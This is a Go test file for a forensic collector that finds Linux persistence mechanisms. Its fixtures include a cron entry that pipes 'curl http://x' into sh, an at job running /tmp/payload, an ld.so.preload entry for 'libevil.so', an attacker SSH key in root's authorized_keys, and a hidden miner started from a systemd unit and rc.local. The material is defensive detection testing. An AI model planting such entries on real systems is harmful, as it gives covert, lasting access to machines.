package files

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/huntmesh/huntmesh/tasks"
)

func TestPersistenceScenario(t *testing.T) {
	tests := []struct {
		name, host, path, typ, command string
	}{
		{"systemd unit on vm-miner02", "vm-miner02", "/etc/systemd/system/dbus-helper.service",
			TypeSystemdUnit, "/opt/.cache/kworkerd -c /opt/.cache/config.json"},
		{"rc.local on vm-miner01", "vm-miner01", "/etc/rc.local",
			TypeRCLocal, "nohup /usr/local/bin/miner --config /etc/miner.conf &"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			root := filepath.Join(scenario, tt.host, "root")
			recs, _, err := collect(t, NewPersistence(), runOpts{root: root}, nil)
			if err != nil {
				t.Fatal(err)
			}
			r, ok := byPath(recs)[tt.path]
			if !ok {
				t.Fatalf("no record for %s in %d records", tt.path, len(recs))
			}
			if r.Kind != tasks.KindPersistence || r.Str("type") != tt.typ ||
				r.Str("command") != tt.command || r.Str("user") != "root" {
				t.Fatalf("record %v", r.Fields)
			}
			b, _ := os.ReadFile(filepath.Join(root, tt.path))
			if r.Str("content") != string(b) || len(r.Str("sha256")) != 64 ||
				r.Str("mtime") == "" || r.Str("name") != filepath.Base(tt.path) {
				t.Fatalf("record %v", r.Fields)
			}
		})
	}
}

// persistenceTree builds a host with one item of every type.
func persistenceTree(t *testing.T) string {
	root := t.TempDir()
	files := map[string]string{
		"/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n" +
			"alice:x:1000:1000::/home/alice:/bin/bash\n",
		"/etc/crontab": "SHELL=/bin/sh\n# m h dom mon dow user command\n" +
			"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n" +
			"@reboot   bob   /tmp/.x/start   --quiet\n",
		"/etc/cron.d/miner": "*/5 * * * * root /usr/bin/curl -s http://x | sh\n" +
			"",
		"/etc/cron.daily/logrotate": "#!/bin/sh\nlogrotate /etc/logrotate.conf\n",
		"/var/spool/cron/crontabs/alice": "# edit with crontab -e\n" +
			"0 3 * * * /home/alice/backup.sh\n",
		"/var/spool/at/a0001": "#!/bin/sh\n# atrun uid=0\nexport PATH\n" +
			"cd /root\n/tmp/payload\n",
		"/etc/init.d/helper": "#!/bin/sh\n/opt/helper start\n",
		"/etc/ld.so.preload": "/lib/libevil.so\n# comment\n" +
			"/lib/libtwo.so:/lib/libthree.so\n",
		"/etc/systemd/system/x.timer": "[Timer]\nOnCalendar=hourly\n" +
			"Unit=y.service\n",
		"/etc/systemd/system/z.timer": "[Timer]\nOnBootSec=5min\n",
		"/etc/systemd/system/svc.service.d/o.conf": "[Service]\nExecStart=\n" +
			"ExecStart=-/usr/bin/env \\\n  override\n",
		"/lib/systemd/system/ssh.service": "[Service]\nUser=sshd\n" +
			"ExecStart=/usr/sbin/sshd -D\n",
		"/home/alice/.config/systemd/user/u.service": "[Service]\n" +
			"ExecStart=/home/alice/.local/bin/agent\n",
		"/home/alice/.ssh/authorized_keys": "ssh-ed25519 AAAA alice@laptop\n" +
			`command="/usr/bin/rsync --server \"x\"",no-pty ssh-rsa AAAA backup` + "\n",
		"/root/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
		"/root/.bashrc":              "alias ls='ls --color'\n",
		"/etc/profile.d/proxy.sh":    "export http_proxy=http://10.0.0.1:3128\n",
	}
	for p, c := range files {
		writeFile(t, filepath.Join(root, p), c, 0o644)
	}
	wants := filepath.Join(root, "etc/systemd/system/multi-user.target.wants")
	if err := os.MkdirAll(wants, 0o755); err != nil {
		t.Fatal(err)
	}
	unit := "/lib/systemd/system/ssh.service"
	if err := os.Symlink(unit, filepath.Join(wants, "ssh.service")); err != nil {
		t.Fatal(err)
	}
	return root
}

func TestPersistenceTypes(t *testing.T) {
	root := persistenceTree(t)
	recs, sum, err := collect(t, NewPersistence(), runOpts{root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	type key struct{ path, command string }
	got := map[key]tasks.Record{}
	for _, r := range recs {
		got[key{r.Str("path"), r.Str("command")}] = r
	}
	tests := []struct {
		name, path, typ, command, user, owner string
	}{
		{"crontab line", "/etc/crontab", TypeCron,
			"cd / && run-parts --report /etc/cron.hourly", "root", "root"},
		{"crontab @reboot", "/etc/crontab", TypeCron, "/tmp/.x/start   --quiet", "bob", "root"},
		{"cron.d", "/etc/cron.d/miner", TypeCron, "/usr/bin/curl -s http://x | sh", "root", "root"},
		{"cron.daily", "/etc/cron.daily/logrotate", TypeCron, "/etc/cron.daily/logrotate",
			"root", "root"},
		{"user crontab", "/var/spool/cron/crontabs/alice", TypeCron, "/home/alice/backup.sh",
			"alice", "root"},
		{"at job", "/var/spool/at/a0001", TypeAt, "/tmp/payload", "root", "root"},
		{"init.d", "/etc/init.d/helper", TypeInitD, "", "root", "root"},
		{"preload", "/etc/ld.so.preload", TypeLdSoPreload,
			"/lib/libevil.so /lib/libtwo.so /lib/libthree.so", "root", "root"},
		{"timer with Unit", "/etc/systemd/system/x.timer", TypeSystemdTimer, "y.service", "root", "root"},
		{"timer default unit", "/etc/systemd/system/z.timer", TypeSystemdTimer, "z.service",
			"root", "root"},
		{"drop-in", "/etc/systemd/system/svc.service.d/o.conf", TypeSystemdUnit,
			"/usr/bin/env override", "root", "root"},
		{"unit with User", "/lib/systemd/system/ssh.service", TypeSystemdUnit,
			"/usr/sbin/sshd -D", "sshd", "root"},
		{"wants symlink", "/etc/systemd/system/multi-user.target.wants/ssh.service",
			TypeSystemdUnit, "/lib/systemd/system/ssh.service", "root", "root"},
		{"user unit", "/home/alice/.config/systemd/user/u.service", TypeSystemdUnit,
			"/home/alice/.local/bin/agent", "alice", "root"},
		{"forced command", "/home/alice/.ssh/authorized_keys", TypeAuthorizedKeys,
			`/usr/bin/rsync --server "x"`, "alice", "root"},
		{"root keys", "/root/.ssh/authorized_keys", TypeAuthorizedKeys, "", "root", "root"},
		{"bashrc", "/root/.bashrc", TypeShellProfile, "", "root", "root"},
		{"profile.d", "/etc/profile.d/proxy.sh", TypeShellProfile, "", "", "root"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r, ok := got[key{tt.path, tt.command}]
			if !ok {
				t.Fatalf("no record %s %q", tt.path, tt.command)
			}
			if r.Str("type") != tt.typ || r.Str("user") != tt.user ||
				(os.Geteuid() == 0 && r.Str("owner") != tt.owner) {
				t.Fatalf("record %v", r.Fields)
			}
		})
	}
	if len(sum.Skipped) != 0 {
		t.Errorf("skips %v", sum.Skipped)
	}
}

func TestPersistenceFilter(t *testing.T) {
	root := persistenceTree(t)
	tests := []struct {
		name  string
		types []string
		want  []string
	}{
		{"timers only", []string{TypeSystemdTimer}, []string{TypeSystemdTimer}},
		{"keys and preload", []string{TypeAuthorizedKeys, TypeLdSoPreload},
			[]string{TypeAuthorizedKeys, TypeLdSoPreload}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			recs, _, err := collect(t, NewPersistence(), runOpts{root: root},
				map[string]any{"types": tt.types})
			if err != nil || len(recs) == 0 {
				t.Fatalf("recs %d, err %v", len(recs), err)
			}
			for _, r := range recs {
				if !slices.Contains(tt.want, r.Str("type")) {
					t.Errorf("unexpected type %s at %s", r.Str("type"), r.Str("path"))
				}
			}
		})
	}
	if err := NewPersistence().Validate([]byte(`{"types":["bogus"]}`)); err == nil ||
		!strings.Contains(err.Error(), "bogus") {
		t.Fatalf("bad type accepted: %v", err)
	}
}

func TestPersistenceSymlinkedDirNotFollowed(t *testing.T) {
	// An absolute symlink under a fixture root would lead to the real
	// host's files; it must be counted and not entered.
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "etc"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/systemd", filepath.Join(root, "etc/systemd")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(root, "etc/crontab")); err != nil {
		t.Fatal(err)
	}
	recs, sum, err := collect(t, NewPersistence(), runOpts{root: root}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if r.Str("path") != "/etc/crontab" || r.Str("content") != "" ||
			r.Str("link_target") != "/etc/passwd" {
			t.Errorf("record %v", r.Fields)
		}
	}
	if sum.Skipped["symlink"] == 0 {
		t.Errorf("summary %+v", sum)
	}
}

func FuzzParseCron(f *testing.F) {
	f.Add([]byte("* * * * * root /bin/true\n@reboot x y\nA=b\n"), true)
	f.Add([]byte("0 0 1 1 1\n"), false)
	f.Fuzz(func(t *testing.T, b []byte, system bool) {
		for _, p := range parseCron(b, system, "u") {
			if p.command == "" {
				t.Fatalf("empty command from %q", b)
			}
		}
	})
}

func FuzzParseUnit(f *testing.F) {
	f.Add([]byte("[Service]\nExecStart=/bin/x \\\n -y\nUser=z\n"))
	f.Add([]byte("\\\n\\\n=\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		_ = parseUnit(b, "root")
		_ = parseTimer(b, "/x.timer")
		_ = parseAuthorizedKeys(b, "u")
		_ = parsePreload(b)
		_ = parseAtJob(b, "u")
		_ = parseRCLocal(b)
	})
}
